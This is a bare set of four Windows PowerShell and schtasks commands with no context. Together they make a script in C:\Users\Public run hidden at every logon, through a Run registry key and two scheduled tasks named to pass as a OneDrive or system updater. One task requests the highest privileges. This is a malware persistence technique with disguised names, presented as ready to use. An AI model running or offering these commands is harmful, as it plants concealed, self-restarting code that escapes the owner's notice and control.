New-ItemProperty -Path 'HKCU:\Software\Microsoft\Windows\CurrentVersion\Run' -Name 'Updater' -Value 'powershell -w hidden -f C:\Users\Public\upd.ps1' -Force
schtasks /create /tn "OneDrive Updater" /tr "powershell -w hidden -f C:\Users\Public\upd.ps1" /sc onlogon /rl highest
$action = New-ScheduledTaskAction -Execute 'powershell.exe' -Argument '-w hidden -f C:\Users\Public\upd.ps1'
Register-ScheduledTask -TaskName 'Updater' -Action $action -Trigger (New-ScheduledTaskTrigger -AtLogOn)
